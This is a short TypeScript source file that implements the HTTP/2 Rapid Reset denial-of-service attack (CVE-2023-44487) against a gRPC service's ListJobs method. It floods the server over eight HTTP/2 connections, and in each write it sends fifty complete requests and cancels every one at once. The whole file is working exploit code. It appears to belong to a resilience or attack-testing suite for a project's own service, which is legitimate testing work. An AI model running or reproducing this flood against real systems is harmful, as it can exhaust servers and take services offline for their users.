/** CVE-2023-44487: complete requests, each cancelled at once. The server has begun its work on them. */
import { type Attack, enveloped, flags, flood, frame, grpcBlock, Peer, type, uint32 } from '../wire.ts';

const requestsPerWrite = 50;
const cancel = uint32(8);
const block = grpcBlock('/leasehold.v1.JobsService/ListJobs');
const message = enveloped(Buffer.alloc(0));

export const rapidReset: Attack = {
  name: 'rapid-reset',
  about: 'gRPC requests that are cancelled at once',
  run: ({ grpc }, signal) =>
    flood(
      8,
      signal,
      () => Peer.openHttp2(grpc),
      async (peer) => {
        const frames: Buffer[] = [];
        for (let i = 0; i < requestsPerWrite; i++) {
          const stream = peer.nextStream();
          frames.push(
            frame(type.headers, flags.endHeaders, stream, block),
            frame(type.data, flags.endStream, stream, message),
            frame(type.reset, flags.none, stream, cancel),
          );
        }
        await peer.write(Buffer.concat(frames));
        return requestsPerWrite;
      },
    ),
};
